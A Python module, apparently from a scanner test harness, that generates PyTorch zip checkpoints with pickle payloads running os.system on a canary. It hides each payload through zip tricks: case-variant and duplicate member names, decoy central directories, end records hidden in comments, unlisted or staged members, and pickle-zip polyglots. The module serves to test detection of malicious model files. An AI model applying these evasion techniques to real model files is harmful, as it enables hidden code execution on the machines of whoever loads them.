"""Class 3: which zip member the loader opens, and members no loader opens.

torch's reader (miniz, ``caffe2/serialize/inline_container.cc``): the root is the first
component of the first central-directory name and every name must start with it;
``getRecord("data.pkl")`` locates ``root/data.pkl`` case-insensitively (flags 0), by binary
search over the sorted names, so of two names equal but for case (or equal) one wins.
A member no loader opens (``extra/notes.txt``, an unreferenced ``data/<key>``) holding a
pickle is a staged payload: the ``members`` oracle unpickles every member to show it runs.
"""

from __future__ import annotations

import struct
from collections.abc import Iterator

from .archives import Member, torch_zip, zip_bytes
from .compose import LOADERS_OF, slug
from .harness import CANARY
from .pickles import Payload, constant_stream, payload_stream
from .variants import Variant

__all__ = ["zip_variants"]

_EVIL = {
    "plain": payload_stream(Payload.direct("os.system"), CANARY),
    "lead": payload_stream(Payload.direct("os.system"), CANARY, trick="lead-short-binbytes"),
    "midint": payload_stream(Payload.direct("os.system"), CANARY, trick="mid-int-hex"),
}
_GOOD = constant_stream({"a": 1})
_VERSION = Member("archive/version", b"3\n")


def _v(name: str, data: bytes, note: str = "", *, ext: str = ".pt") -> Variant:
    full = f"3-zip/{name}"
    return Variant(full, "3-zip", slug(full, ext), data, LOADERS_OF["zip"], note=note)


def zip_variants() -> Iterator[Variant]:
    """Every class-3 variant, each payload stream in its three forms."""
    for form, evil in _EVIL.items():
        yield from _member_choice(form, evil)
        yield from _staged(form, evil)
        yield from _directories(form, evil)
        yield from _polyglots(form, evil)


def _member_choice(form: str, evil: bytes) -> Iterator[Variant]:
    yield _v(f"{form}/data.pkl", torch_zip(evil), "control")
    for name in ("DATA.PKL", "Data.pkl", "data.PKL"):
        yield _v(f"{form}/case-{name}", torch_zip(evil, pkl_name=name), "case-insensitive lookup")
    for label, first, second in (("evil-first", evil, _GOOD), ("good-first", _GOOD, evil)):
        yield _v(
            f"{form}/case-dup-{label}",
            zip_bytes(
                [
                    Member("archive/DATA.PKL" if first is evil else "archive/data.pkl", first),
                    Member("archive/data.pkl" if first is evil else "archive/DATA.PKL", second),
                    _VERSION,
                ]
            ),
            "two names equal but for case",
        )
        yield _v(
            f"{form}/dup-{label}",
            zip_bytes(
                [Member("archive/data.pkl", first), Member("archive/data.pkl", second), _VERSION]
            ),
            "two entries with the same name",
        )
    yield _v(
        f"{form}/local-name-differs",
        zip_bytes([Member("archive/data.pkl", evil, local_name="archive/notes.txt"), _VERSION]),
        "the local header names another member",
    )
    yield _v(
        f"{form}/deflated",
        zip_bytes([Member("archive/data.pkl", evil, deflate=True), _VERSION]),
    )
    yield _v(
        f"{form}/decoy-directory",
        zip_bytes(
            [Member("archive/data.pkl", evil), _VERSION],
            decoy_directory=[Member("archive/data.pkl", _GOOD), _VERSION],
        ),
        "a second central directory after the real one",
    )
    yield from _end_records(form, evil)


def _end_records(form: str, evil: bytes) -> Iterator[Variant]:
    """Two end-of-central-directory records: which one does each reader take?"""
    for order in ("evil-last", "good-last"):
        first, last = (_GOOD, evil) if order == "evil-last" else (evil, _GOOD)
        archive = bytearray(zip_bytes([Member("archive/data.pkl", first), _VERSION]))
        second = zip_bytes([Member("archive/data.pkl", last), _VERSION])
        # The second archive, appended, with its offsets made absolute (+len(first)).
        yield _v(f"{form}/two-archives-{order}", bytes(archive) + _shift(second, len(archive)))
    # An end record hidden in the comment of the last one, pointing at another directory:
    # readers that scan back for the signature take the hidden one.
    for hidden_label, hidden, outer in (("evil-hidden", evil, _GOOD), ("good-hidden", _GOOD, evil)):
        real = zip_bytes([Member("archive/data.pkl", outer), _VERSION])
        other = zip_bytes([Member("archive/data.pkl", hidden), _VERSION])
        eocd_at = real.rfind(b"PK\x05\x06")
        shifted = _shift(other, eocd_at)
        split = shifted.rfind(b"PK\x05\x06")
        comment = shifted[split:]
        eocd = real[eocd_at : eocd_at + 20] + struct.pack("<H", len(comment)) + comment
        yield _v(
            f"{form}/eocd-in-comment-{hidden_label}",
            real[:eocd_at] + shifted[:split] + eocd,
            "an end record inside the comment of the last one",
        )


def _shift(archive: bytes, by: int) -> bytes:
    """``archive`` with every central-directory offset (and the end record's) moved."""
    out = bytearray(archive)
    eocd = out.rfind(b"PK\x05\x06")
    count, _size, cd_offset = struct.unpack_from("<HLL", out, eocd + 10)
    struct.pack_into("<L", out, eocd + 16, cd_offset + by)
    at = cd_offset
    for _ in range(count):
        (offset,) = struct.unpack_from("<L", out, at + 42)
        struct.pack_into("<L", out, at + 42, offset + by)
        n, e, c = struct.unpack_from("<HHH", out, at + 28)
        at += 46 + n + e + c
    return bytes(out)


def _staged(form: str, evil: bytes) -> Iterator[Variant]:
    """A benign ``data.pkl`` and a pickle in a member no loader opens."""
    for member in (
        "archive/extra/notes.txt",
        "archive/code/__torch__/m.py",
        "archive/constants/0",
        "archive/.data/notes",
        "archive/notes.txt",
        "archive/data/0",
        "archive/extra/x.pkl",
    ):
        yield _v(
            f"{form}/staged-{member.replace('/', '_')}",
            torch_zip(_GOOD, extra=[Member(member, evil)]),
            "staged: no loader opens it; pickle.loads of the member runs it",
        )
    # Bytes no member owns: a local header the central directory does not list.
    yield _v(
        f"{form}/unlisted-local-header",
        zip_bytes(
            [
                Member("archive/evil.pkl", evil, in_directory=False),
                Member("archive/data.pkl", _GOOD),
                _VERSION,
            ]
        ),
        "staged: bytes no member owns",
    )


def _directories(form: str, evil: bytes) -> Iterator[Variant]:
    """The root torch takes (first central name) against the root a scanner takes."""
    # torch's root is "data"; a scanner that takes the root from the first data.pkl it sees
    # ("data/x/data.pkl") reads "data/data.pkl" as a tensor storage under its own root.
    yield _v(
        f"{form}/root-data-prefix",
        zip_bytes(
            [
                Member("data/version", b"3\n"),
                Member("data/x/data.pkl", _GOOD),
                Member("data/data.pkl", evil),
            ]
        ),
        "a directory that makes a prefix",
    )
    yield _v(
        f"{form}/nested-root",
        zip_bytes(
            [_VERSION, Member("archive/sub/data.pkl", _GOOD), Member("archive/data.pkl", evil)]
        ),
        "a data.pkl in a sub-folder listed first",
    )
    yield _v(
        f"{form}/directory-entry-first",
        zip_bytes([Member("archive/", b""), Member("archive/data.pkl", evil), _VERSION]),
    )
    yield _v(
        f"{form}/root-case",
        zip_bytes([Member("Archive/version", b"3\n"), Member("archive/data.pkl", evil)]),
        "the first name's root differs from the others' in case",
    )


def _polyglots(form: str, evil: bytes) -> Iterator[Variant]:
    """A pickle and a zip in one file: torch.load reads a file that does not start with
    PK\\x03\\x04 as a pickle, zip tools read the archive at its end."""
    yield _v(f"{form}/pickle-then-zip", evil + torch_zip(_GOOD), "torch runs the pickle")
    yield _v(f"{form}/zip-then-pickle", torch_zip(_GOOD) + evil, "staged after the end record")
